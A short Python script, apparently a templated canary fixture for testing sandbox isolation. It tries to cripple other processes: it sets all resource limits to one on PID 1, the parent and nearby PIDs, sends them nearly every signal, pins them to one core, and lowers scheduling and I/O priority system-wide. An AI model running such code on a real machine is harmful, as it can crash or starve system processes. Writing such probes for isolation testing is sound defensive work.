# how: changes limits, priorities, cores and signals of process 1 and of every process with the same user
import contextlib
import ctypes
import os
import resource

print("CANARY @NAME@", flush=True)
libc = ctypes.CDLL(None)
for process in (1, os.getppid(), *range(2, 9)):
    for kind in range(16):
        with contextlib.suppress(OSError, ValueError):
            if process != os.getpid():
                resource.prlimit(process, kind, (1, 1))
    for number in (*range(1, 32), 34, 50, 64):
        with contextlib.suppress(OSError):
            if process != os.getpid():
                os.kill(process, number)
    with contextlib.suppress(OSError):
        os.sched_setaffinity(process, {0})
for which, who in ((0, 1), (1, 0), (2, os.getuid()), (2, 0)):
    with contextlib.suppress(OSError):
        os.setpriority(which, who, 19)
    libc.syscall(251, which + 1, who, 3 << 13)
